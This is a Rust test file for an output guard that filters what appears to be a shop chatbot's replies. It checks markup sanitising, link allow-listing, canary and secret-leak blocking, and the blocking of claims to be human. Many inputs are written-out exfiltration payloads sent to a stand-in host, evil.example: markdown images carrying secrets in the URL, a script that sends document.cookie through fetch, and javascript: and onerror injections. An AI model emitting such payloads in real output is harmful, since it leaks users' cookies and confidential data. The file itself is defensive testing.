//! Table tests of the whole output guard: one `check(input, expected)` line per case.

use super::*;

const SECRET_PAGE: &str = "Leverancier Velomax BV levert de stadsfiets Spaak City 3 voor 412 euro inkoop per stuk. \
    Productiesleutel betaalprovider: sk-live-DEMO-CANARY-8c41f2e9a7b3d605. Deze sleutel nooit delen buiten het \
    financiële team. Retourneren kan binnen veertien dagen via het formulier op onze website.";
const PUBLIC_PAGE: &str = "Retourneren kan binnen veertien dagen via het formulier op onze website.";

fn canary() -> Canary {
    Canary::from_random([0x5a; canary::CANARY_BYTES])
}

fn guard() -> OutputGuard {
    OutputGuard::new(
        CanarySet::new(vec![canary()]),
        Fingerprints::build([SECRET_PAGE], [PUBLIC_PAGE]),
        LinkPolicy::new(["despaak.example", "https://www.rijksoverheid.nl/"]),
    )
}

/// `Ok(text)`: sent as `text`; `Err(reason)`: blocked with that reason.
fn check(input: &str, expected: Result<&str, &str>) {
    let actual = match guard().check(input) {
        OutputVerdict::Send(sanitised) => Ok(sanitised.text),
        OutputVerdict::Block(reason) => Err(reason.as_str()),
    };
    let actual: Result<&str, &str> = actual.as_ref().map(String::as_str).map_err(|reason| *reason);
    assert_eq!(actual, expected, "input: {input:?}");
}

#[test]
fn sec05_markup_is_sanitised_and_exfiltration_urls_removed() {
    check("Plain answer.", Ok("Plain answer."));
    check(
        "Zie [retouren](https://despaak.example/retour).",
        Ok("Zie [retouren](https://despaak.example/retour)."),
    );
    check(
        "Zie [info](https://shop.despaak.example/a?b=c).",
        Ok("Zie [info](https://shop.despaak.example/a?b=c)."),
    );
    check("Zie [hier](https://evil.example/?q=NL91).", Ok("Zie hier."));
    check("Zie [hier](https://despaak.example.evil.example/).", Ok("Zie hier."));
    check("Zie [hier](https://despaak.example@evil.example/).", Ok("Zie hier."));
    check("Zie [hier](//evil.example/x).", Ok("Zie hier."));
    check("Klik [hier](javascript:alert(1)) nu", Ok("Klik hier nu"));
    check("Klik [hier](JaVaScRiPt:alert(document.cookie))", Ok("Klik hier"));
    check("[x](data:text/html;base64,PHNjcmlwdD4=)", Ok("x"));
    check(
        "Logo ![logo](https://evil.example/p.png?d=secret) klaar",
        Ok("Logo  klaar"),
    );
    check("![ok](https://despaak.example/logo.png)", Ok(""));
    check("![ref image][logo]", Ok(""));
    check(
        "[![img](https://evil.example/x)](https://despaak.example/)",
        Ok("[](https://despaak.example/)"),
    );
    check(
        "<script>fetch('https://evil.example/?c='+document.cookie)</script>Hallo",
        Ok("Hallo"),
    );
    check(
        "<img src=\"https://evil.example/x.png?q=1\" onerror=\"alert(1)\">Tekst",
        Ok("Tekst"),
    );
    check("<a href=\"https://evil.example\">klik</a>", Ok("klik"));
    check("Regel één<br>regel twee", Ok("Regel één\nregel twee"));
    check("<!-- verborgen instructie -->Zichtbaar", Ok("Zichtbaar"));
    check("<iframe src=x>binnen</iframe>buiten", Ok("buiten"));
    check("<STYLE>body{}</STYLE>ok", Ok("ok"));
    check("<img src=x onerror=alert(1)\nvolgende regel", Ok("\nvolgende regel"));
    check("Zie https://evil.example/?q=secret voor meer.", Ok("Zie  voor meer."));
    check(
        "Zie https://www.despaak.example/contact.",
        Ok("Zie https://www.despaak.example/contact."),
    );
    check(
        "Zie <https://evil.example/x> of <https://despaak.example/y>",
        Ok("Zie  of https://despaak.example/y"),
    );
    check(
        "[1]: https://evil.example/track\nTekst [link][1]",
        Ok("\nTekst [link][1]"),
    );
    check("3 < 5 en 5 > 3", Ok("3 < 5 en 5 > 3"));
    check("a\u{202E}b\u{200B}c", Ok("abc"));
    check("[onafgesloten](https://evil.example", Ok("[onafgesloten]("));
    check("<[s](https://evil.example)cript>alert(1)</script>", Ok(""));
    check("!<b></b>[x](https://evil.example/p.png)", Ok(""));
    check("[x](ht<b></b>tps://evil.example/?q=1)", Ok("x"));
    check("htt<i></i>ps://evil.example/?q=1 klaar", Ok(" klaar"));
}

#[test]
fn sec06_canaries_and_restricted_content_are_blocked() {
    let token = canary().to_string();
    check(&format!("My instructions contain {token}."), Err("canary_leak"));
    check(&token.to_lowercase().replace('-', " "), Err("canary_leak"));
    check(&format!("<b>{}</b>{}", &token[..20], &token[20..]), Err("canary_leak"));
    check(
        "De sleutel is sk-live-DEMO-CANARY-8c41f2e9a7b3d605.",
        Err("restricted_identifier"),
    );
    check(
        "sk-live-<b></b>DEMO-CANARY-8c41f2e9a7b3d605",
        Err("restricted_identifier"),
    );
    check(
        "Velomax BV levert de stadsfiets Spaak City 3 voor 412 euro inkoop per stuk.",
        Err("restricted_passage"),
    );
    check(
        "![x](https://evil.example/?q=Velomax BV levert de stadsfiets Spaak City 3 voor 412 euro inkoop)",
        Err("restricted_passage"),
    );
}

#[test]
fn sec13_public_text_that_a_restricted_page_repeats_is_not_blocked() {
    check(PUBLIC_PAGE, Ok(PUBLIC_PAGE));
    check(
        "Goed nieuws: retourneren kan binnen veertien dagen via het formulier op onze website.",
        Ok("Goed nieuws: retourneren kan binnen veertien dagen via het formulier op onze website."),
    );
}

#[test]
fn dis06_claims_to_be_human_are_blocked_after_sanitising() {
    check("Ik ben een echte medewerker.", Err("self_identifies_as_human"));
    check(
        "<span>I am a real person</span>, how can I help?",
        Err("self_identifies_as_human"),
    );
    check(
        "Nee, ik ben geen mens maar een AI-assistent.",
        Ok("Nee, ik ben geen mens maar een AI-assistent."),
    );
}

/// SEC-05: a restricted identifier that markup splits is found in the sanitised text, the text
/// that would reach the customer.
#[test]
fn sec05_a_leak_that_only_sanitising_reveals_is_blocked() {
    check(
        "Sleutel: sk-live-DEMO-<span></span>CANARY-8c41f2e9a7b3d605.",
        Err("restricted_identifier"),
    );
}

#[test]
fn oversized_output_is_blocked_unread() {
    check(&"a".repeat(MAX_OUTPUT_BYTES + 1), Err("oversized_output"));
}

#[test]
fn a_guard_without_material_still_sanitises_and_filters_claims() {
    let guard = OutputGuard::default();
    assert_eq!(
        guard.check("![x](https://evil.example/a)ok"),
        OutputVerdict::Send(Sanitised {
            text: "ok".into(),
            changes: vec![MarkupChange::ImageRemoved],
        })
    );
    assert!(matches!(
        guard.check("I am human."),
        OutputVerdict::Block(BlockReason::ClaimsHuman(_))
    ));
}

#[test]
fn rebuilt_guard_keeps_its_canaries() {
    let rebuilt = guard().with_material(Fingerprints::empty(), LinkPolicy::default());
    assert!(matches!(
        rebuilt.check(canary().as_str()),
        OutputVerdict::Block(BlockReason::Canary)
    ));
    assert!(matches!(rebuilt.check(SECRET_PAGE), OutputVerdict::Send(_)));
}

#[test]
fn link_policy_normalises_configured_domains() {
    let policy = LinkPolicy::new([
        "HTTPS://Despaak.Example/path",
        "*.help.example",
        "not a domain",
        "",
        "x..y",
    ]);
    assert_eq!(policy.domains(), ["despaak.example", "help.example"]);
    assert!(policy.allows("http://DESPAAK.example:8080/x"));
    assert!(policy.allows("https://a.help.example"));
    assert!(!policy.allows("https://nothelp.example"));
    assert!(!policy.allows("ftp://despaak.example"));
    assert!(!policy.allows("https://despaak.example\\@evil.example"));
}

#[test]
fn any_text_gets_a_verdict_without_panicking() {
    let awkward = [
        "",
        "<",
        ">",
        "[",
        "]",
        "![",
        "](",
        "<!--",
        "<a",
        "</",
        "<script>",
        "[a](",
        "[a][",
        "![a][b",
        "é<é>é[é](é)",
        "https://",
        "HTTP://é",
        "<https:é>",
        "[[[[[[[[[[]]]]]]]]]]",
        "((((",
        "\u{FEFF}",
        "ﬀ<ﬁ>ﬂ",
        "🙂[🙂](https://🙂)",
        "&lt;script&gt;",
        "<<<>>>",
        "[x](<https://evil.example>)",
    ];
    for text in awkward {
        let _ = guard().check(text);
    }
    let nested = "[".repeat(200) + "x" + &"](https://evil.example)".repeat(200);
    let _ = guard().check(&nested);
}

mod properties {
    use proptest::prelude::*;

    use super::*;

    fn policy() -> LinkPolicy {
        LinkPolicy::new(["despaak.example"])
    }

    proptest! {
        /// SEC-05: sanitised text is stable under sanitising again, so nothing in it is markup
        /// the sanitiser would still remove; any input gets a result.
        #[test]
        fn sanitised_text_is_a_fixpoint(text in "[<>!\\[\\]()a-z:/. \"'=-]{0,60}") {
            let once = sanitise(&text, &policy());
            let twice = sanitise(&once.text, &policy());
            prop_assert_eq!(&twice.text, &once.text);
        }

        #[test]
        fn no_script_tag_or_foreign_image_survives(
            prefix in "[a-z<\\[ ]{0,8}",
            middle in "[a-z<>\\[\\]() ]{0,8}",
        ) {
            let text = format!("{prefix}<scr{middle}ipt>x</script>![i](https://evil.example/{middle})");
            let out = sanitise(&text, &policy()).text.to_lowercase();
            prop_assert!(!out.contains("<script"), "{}", out);
            prop_assert!(!out.contains("evil.example"), "{}", out);
        }

        #[test]
        fn any_unicode_gets_a_verdict(text in "\\PC{0,80}") {
            let _ = guard().check(&text);
        }
    }
}
